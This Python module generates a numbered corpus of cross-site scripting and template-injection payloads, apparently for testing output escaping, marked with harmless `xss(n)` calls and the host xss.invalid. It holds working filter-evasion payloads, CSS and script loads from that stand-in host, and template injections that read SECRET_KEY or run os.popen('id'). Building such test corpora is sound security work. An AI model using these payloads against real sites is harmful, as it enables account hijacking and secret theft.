"""A corpus of texts that would run something where a page forgets to escape them: ours, made from parts.

Every payload carries its own number. What runs calls `xss(number)`, asks for something at `xss.invalid`, or shows
the product SUM that only an evaluated template can show.
"""

from __future__ import annotations

import base64
import html
import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

HOST = "xss.invalid"
FACTORS = (9_973, 7_919)
SUM = str(FACTORS[0] * FACTORS[1])
"""What a template makes of the two factors; nothing else in the shop says it."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, of one family."""

    family: str
    number: int
    text: str


CALL = "xss({n})"
BREAKS = (
    "",
    '"',
    "'",
    "`",
    "-->",
    "]]>",
    '">',
    "'>",
    "*/",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    '\\"',
    "\u2028",
)
"""Ways out of where a careless page puts a text."""
EVENTS = (
    "load", "error", "focus", "blur", "click", "mouseover", "mouseenter", "toggle", "begin", "end", "animationstart",
    "transitionend", "pageshow", "hashchange", "message", "resize", "scroll", "wheel", "input", "change", "select",
    "pointerover", "pointerenter", "copy", "paste", "dragstart", "keydown", "beforetoggle", "scrollend", "cuechange",
    "canplay", "loadstart", "popstate", "unhandledrejection", "securitypolicyviolation", "beforeinput",
)  # fmt: skip
CARRIERS = (
    "<img src=x {h}>", "<svg {h}>", "<body {h}>", "<input autofocus {h}>", "<details open {h}>x</details>",
    "<video src=x autoplay {h}>", "<a href=# tabindex=1 {h}>x</a>", "<iframe src=about:blank {h}></iframe>",
    "<math><mi {h}>x</mi></math>", "<marquee {h}>x</marquee>", "<x contenteditable {h}>x</x>", "<button popover {h}>x</button>",
)  # fmt: skip
SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", " javascript:{c}", "\x01javascript:{c}",
    "javascript&colon;{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}", "javascript://%0a{c}", "vbscript:{c}",
    "data:text/html,<script>{c}</script>", "data:image/svg+xml,<svg onload={c}>", "javascript:/*--></title>*/{c}",
    "//xss.invalid/{n}", "\\\\xss.invalid\\{n}", "/\\xss.invalid/{n}", "https:xss.invalid/{n}", "feed:javascript:{c}",
    "view-source:javascript:{c}", "blob:javascript:{c}", "jar:javascript:{c}",
)  # fmt: skip
LINKS = (
    "{u}", '<a href="{u}">x</a>', "<a href='{u}'>x</a>", "<form action='{u}'><button>x</button></form>",
    '<button formaction="{u}">x</button>', '<iframe src="{u}"></iframe>', '<object data="{u}"></object>',
    '<embed src="{u}">', '<meta http-equiv=refresh content="0;url={u}">', '<base href="{u}">',
    "[x]({u})", "![x]({u})", "<{u}>", '<area href="{u}">', "[x]: {u}",
)  # fmt: skip
TAGS = (
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script/x>{c}</script>", "<script\n>{c}</script\n>", "<<script>{c}//<</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<script src=//xss.invalid/{n}></script>", "<script src=data:,{c}></script>",
    "<script type=module>{c}</script>", "<script type=text/javascript>{c}", "<script>/*<!--*/{c}</script>",
    "<script x='>'>{c}</script>", "<%00script>{c}</script>", "<script >{c}</script >", "<noscript><p title='</noscript><script>{c}</script>'>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<template><script>{c}</script></template>",
    "<link rel=import href=//xss.invalid/{n}>", "<link rel=stylesheet href=//xss.invalid/{n}>", "<img src=//xss.invalid/{n}>",
    "<plaintext><script>{c}</script>", "<xmp><script>{c}</script></xmp>", "<!--><script>{c}</script>-->", "<?xml?><script>{c}</script>",
)  # fmt: skip
ATTRIBUTES = (
    'autofocus onfocus={c} x="', "onmouseover='{c}'", 'style="animation-name:x" onanimationstart="{c}"', "accesskey=x onclick={c}",
    "href=javascript:{c}", "src=x onerror={c}", "formaction=javascript:{c}", "srcdoc='<script>parent.{c}</script>'",
    "/onload={c}/", "\tonfocus\t=\t{c}", "\x0conerror\x0c={c}", "onerror&#61;{c}", "ping=//xss.invalid/{n}", "background=//xss.invalid/{n}",
)  # fmt: skip
SVG = (
    "<svg><script>{c}</script></svg>", "<svg><script href=data:,{c} />", "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributeName=x>", "<svg><a xlink:href=javascript:{c}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}>#x'/></svg>", "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<svg><style><img src=x onerror={c}></style></svg>", "<svg><title><a id='</title><img src=x onerror={c}>'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{c}>x</math>", "<math><annotation-xml encoding=text/html><script>{c}</script></annotation-xml></math>",
    "<svg><image href=//xss.invalid/{n}></svg>", "<svg><feImage href=//xss.invalid/{n}></svg>", "<svg><handler type=text/javascript>{c}</handler>",
    "<svg onload={c}//", "<svg/onload={c}>", "<svg><discard onbegin={c}>", "<svg><animate attributeName=href values=javascript:{c} />",
)  # fmt: skip
TEMPLATES = (
    "{{{{{a}*{b}}}}}", "{{{{ ({a}) * {b} }}}}", "{{% print({a}*{b}) %}}", "${{{a}*{b}}}", "#{{{a}*{b}}}", "<%= {a}*{b} %>", "*{{{a}*{b}}}",
    "[[{a}*{b}]]", "{{{{=({a}*{b})}}}}", "@({a}*{b})", "~{{{a}*{b}}}", "{{{{constructor.constructor('return {a}*{b}')()}}}}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{config.SECRET_KEY}}}}", "{{{{request.application.__globals__}}}}",
    "{{{{cycler.__init__.__globals__.os.popen('id')}}}}", "{{% for x in ().__class__.__base__ %}}{{% endfor %}}", "{{{{url_for.__globals__}}}}",
    "%({a})s", "{{0.__class__.__init__.__globals__}}", "%s%n", "{{{{$on.constructor('xss({n})')()}}}}", "<x v-on:click=xss({n})>",
    "<x ng-app ng-init=xss({n})>", "<x x-data x-init=xss({n})>", "<x hx-on:load=xss({n})>", "<x hx-get=//xss.invalid/{n} hx-trigger=load>",
    "<x x-html=\"'<img src=x onerror=xss({n})>'\">", "<x @load=xss({n})>", "<x :href=xss({n})>", "<x data-action=\"xss({n})\">",
    "${{`${{xss({n})}}`}}", "`${{xss({n})}}`", "{{{{x|attr('__class__')}}}}", "{{{{self.__init__.__globals__}}}}", "{{{{lipsum.__globals__}}}}",
)  # fmt: skip
MUTATIONS = (
    "<listing>&lt;img src=x onerror={c}&gt;</listing>", "<noembed><img title='</noembed><img src=x onerror={c}>'></noembed>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>", "<svg></p><style><a id='</style><img src=x onerror={c}>'>",
    "<math><mi><style><!--</style><img src=x onerror={c}>--></style>", "<table><td><a title='</a><img src=x onerror={c}>'>",
    "<select><style></select><img src=x onerror={c}></style></select>", "<p id='</p><img src=x onerror={c}>'>", "<b <script>{c}</script>0",
    "<img src='x`<img src=x onerror={c}>`'>", "<a title=`x onmouseover={c}`>x</a>", "<img \x00src=x onerror={c}>", "<img/src/onerror={c}>",
    "<!-- --!><img src=x onerror={c}> -->", "<![CDATA[><img src=x onerror={c}>]]>", "<img src=x onerror={c}//", "<img src=x:x onerror={c} ",
    "<title>&lt;/title&gt;<img src=x onerror={c}></title>", "<div id=1><style>*{{x:</style><img src=x onerror={c}>}}",
    "<a href='x' style='x:</a><img src=x onerror={c}>'>x</a>", "<dl><dt><noscript><img src=x onerror={c}>",
)  # fmt: skip
STYLES = (
    "<style>@import '//xss.invalid/{n}';</style>", "<style>*{{background:url(//xss.invalid/{n})}}</style>",
    "<p style='background:url(//xss.invalid/{n})'>x</p>", "<p style=\"width:expression({c})\">x</p>",
    "<p style='behavior:url(//xss.invalid/{n})'>x</p>", "<link rel=stylesheet href='data:text/css,*{{x:{n}}}'>",
    "</style><script>{c}</script>", "}}*{{background:url(//xss.invalid/{n})", "red;background:url(//xss.invalid/{n})",
    "url(javascript:{c})", "<style>@font-face{{font-family:x;src:url(//xss.invalid/{n})}}</style>", "\\3c script\\3e {c}\\3c/script\\3e",
    "<p style='-moz-binding:url(//xss.invalid/{n})'>x</p>", "#fff;}}</style><img src=x onerror={c}>",
    "<style>input[value^=a]{{background:url(//xss.invalid/{n})}}</style>", "<svg style='mask:url(//xss.invalid/{n})'>",
)  # fmt: skip
JSONS = (
    '"}}</script><script>{c}</script>', '"}});{c}//', "'}});{c}//", '\\u003cscript\\u003e{c}\\u003c/script\\u003e', '\\"}};{c};//',
    '"-{c}-"', "'-{c}-'", '";{c};"', "';{c};'", "\\';{c};//", "</script><svg/onload={c}>", "<!--<script>{c}</script>-->",
    '{{"__proto__":{{"x":"<img src=x onerror={c}>"}}}}', '{{"html":"<img src=x onerror={c}>"}}', "*/{c}/*", "\u2028{c}", "\u2029{c}//",
    "\r\n{c}\r\n", "\\\n{c}", "javascript:\"}}]{c}", '","url":"javascript:{c}","x":"', "]}}{c}//",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{c})", "[x](JaVaScRiPt:{c})", "![x](x\"onerror=\"{c})", "[x](data:text/html,<script>{c}</script>)",
    "<javascript:{c}>", "![x](//xss.invalid/{n})", "[x]: javascript:{c}", "`<img src=x onerror={c}>`", "```\n<img src=x onerror={c}>\n```",
    "# <img src=x onerror={c}>", "> <img src=x onerror={c}>", "* <img src=x onerror={c}>", "[<img src=x onerror={c}>](x)",
    "[x](x \"'><img src=x onerror={c}>\")", "|<img src=x onerror={c}>|\n|-|", "[x](javascript&colon;{c})", "[[x|javascript:{c}]]",
    "[x](#\" onclick=\"{c})", "<a href=\"x\">[y](javascript:{c})</a>", "~~<svg/onload={c}>~~",
)  # fmt: skip
TARGETS = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg/onload={c}>",
    '"><img src=x onerror={c}>',
    "javascript:{c}",
)


def _encodings(text: str) -> Iterator[str]:
    """The same payload in other clothes, which a page may take off once too often."""
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield quote(text, safe="")
    yield quote(quote(text, safe=""), safe="")
    yield "".join(f"&#{ord(c)};" for c in text[:24]) + text[24:]
    yield "".join(f"&#x{ord(c):x}" for c in text[:16]) + text[16:]
    yield "".join(f"\\x{ord(c):02x}" for c in text[:20]) + text[20:]
    yield "".join(f"\\u{ord(c):04x}" for c in text[:16]) + text[16:]
    yield base64.b64encode(text.encode()).decode()
    yield text.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe")
    yield text.replace("<", "&LT;").replace(">", "&GT;")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "\\74").replace(">", "\\76")


def _unicodes(text: str) -> Iterator[str]:
    """Letters that some step may turn into the dangerous ones."""
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "\ufe64").replace(">", "\ufe65")
    yield text.replace("<", "\u2039").replace(">", "\u203a")
    yield text.replace("s", "\u017f")
    yield text.replace("i", "\u0131")
    yield text.replace("<", "<\u200b")
    yield text.replace("script", "scr\u00adipt")
    yield "\ufeff" + text
    yield "\u202e" + text
    yield "".join(c + "\u0301" if c.isalpha() else c for c in text)
    yield text.replace(" ", "\u00a0")
    yield text.replace(" ", "\u2003")
    yield text.replace("a", "\uff41").replace("r", "\uff52")
    yield text + "\U000e0001"


def _raw() -> Iterator[tuple[str, str]]:
    """Family and form of every payload; {c} is the call, {n} its number."""
    yield from (("tag", b + t) for b, t in itertools.product(("", '">', "'>", "</textarea>", "-->"), TAGS))
    handlers = ("on{e}={{c}}", "on{e}='{{c}}'", 'ON{e} = "{{c}}"')
    for number, (event, carrier) in enumerate(itertools.product(EVENTS, CARRIERS)):
        handler = handlers[number % 3].format(e=event)
        yield "event", BREAKS[number % len(BREAKS)] + carrier.replace("{h}", handler)
    yield from (
        ("attribute", b + " " + a) for b, a in itertools.product(('"', "'", "`", "x", "/"), ATTRIBUTES)
    )
    for number, (scheme, link) in enumerate(itertools.product(SCHEMES, LINKS)):
        if number % 2 == 0 or link == "{u}":
            yield "address", link.replace("{u}", scheme)
    yield from (("svg", b + s) for b, s in itertools.product(("", '">', "</title>"), SVG))
    yield from (("template", b + t) for b, t in itertools.product(("", "x ", "'\">"), TEMPLATES))
    yield from (("mutation", b + m) for b, m in itertools.product(("", "x", '"'), MUTATIONS))
    yield from (("style", b + s) for b, s in itertools.product(("", '"', "'"), STYLES))
    yield from (("json", b + s) for b, s in itertools.product(("", "x", "1"), JSONS))
    yield from (("markdown", b + m) for b, m in itertools.product(("", "x ", "\n"), MARKDOWN))
    yield from (("encoding", "\0E" + t) for t in TARGETS)
    yield from (("unicode", "\0U" + t) for t in TARGETS)


def corpus() -> list[Payload]:
    """Every payload, each text once."""
    found: dict[str, Payload] = {}

    def add(family: str, form: str, changed: object = None) -> None:
        number = len(found) + 1
        values = {"c": CALL.format(n=number), "n": number, "a": FACTORS[0], "b": FACTORS[1]}
        text = form.format(**values)
        texts = changed(text) if callable(changed) else (text,)
        for one in texts:
            if one not in found:
                found[one] = Payload(family, len(found) + 1, one)

    for family, form in _raw():
        if form.startswith("\0"):
            add(family, form[2:], _encodings if form[1] == "E" else _unicodes)
        else:
            add(family, form if family in ("template", "style", "json") else _braced(form))
    return list(found.values())


def _braced(form: str) -> str:
    """Braces that are meant, kept through `format`; only {c} and {n} are places."""
    kept = form.replace("{c}", "\1").replace("{n}", "\2").replace("{{", "{").replace("}}", "}")
    return kept.replace("{", "{{").replace("}", "}}").replace("\1", "{c}").replace("\2", "{n}")


FAMILIES = (
    "tag", "event", "attribute", "address", "svg", "template", "mutation", "style", "json", "markdown", "encoding",
    "unicode",
)  # fmt: skip
